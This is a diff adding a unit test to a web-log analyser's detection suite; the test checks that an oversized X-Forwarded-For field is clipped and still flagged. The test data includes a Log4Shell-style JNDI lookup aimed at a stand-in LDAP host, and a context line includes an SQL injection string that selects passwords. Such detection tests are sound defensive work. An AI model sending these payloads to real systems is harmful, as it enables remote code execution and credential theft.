@@ -133,3 +133,14 @@ def test_an_iis_log_reads_its_forwarded_for_field_with_plus_as_space(tmp_path):
     assert events["forwarded_for"].cast(str).to_list() == ["1' UNION SELECT password FROM users--", "198.51.100.20"]
     assert events["client_ip"].cast(str).to_list() == ["203.0.113.7", "198.51.100.20"]
     assert {e.rule_id for e in signatures.detect(events)["203.0.113.7"]} == {"sig-sqli"}
+
+
+def test_a_huge_forwarded_for_is_clipped_like_every_client_written_field(tmp_path):
+    from log_analyser_core.parsing.events import FIELD_CHARS
+    path = tmp_path / "huge.json"
+    path.write_text(json.dumps({"time": "2026-10-10T13:55:36+00:00", "remote_addr": "203.0.113.7",
+                                "request": "GET / HTTP/1.1", "status": 200, "body_bytes_sent": 5,
+                                "http_x_forwarded_for": "${jndi:ldap://x/" + "a" * 100_000 + "}"}) + "\n")
+    events = file_parser.parse([str(path)], format_name="json").events
+    assert len(events["forwarded_for"].cast(str)[0]) == FIELD_CHARS
+    assert {e.rule_id for e in signatures.detect(events)["203.0.113.7"]} == {"sig-rce"}
